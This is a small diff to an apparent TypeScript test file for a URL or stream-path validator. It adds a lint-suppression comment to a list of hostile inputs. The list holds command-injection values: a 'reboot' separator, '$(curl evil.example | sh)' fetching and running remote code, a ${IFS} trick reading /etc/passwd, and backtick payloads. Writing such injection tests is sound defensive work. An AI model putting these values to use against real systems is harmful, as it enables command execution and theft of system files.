@@ -8,6 +8,7 @@ const HOSTILE: [why: string, url: string][] = [
   ['shell command separator in an RTSP path', 'rtsp://10.0.0.5/stream;reboot'],
   ['command substitution in an HTTP path', 'http://cam.local/$(reboot)'],
   ['command substitution as the whole path', '$(curl evil.example | sh)'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell expansion is the attack.
   ['variable expansion', '/tmp/${IFS}cat${IFS}/etc/passwd'],
   ['backticks in an RTSP path', 'rtsp://10.0.0.5/`id`'],
   ['backticks as a file path', '`touch /tmp/pwned`'],
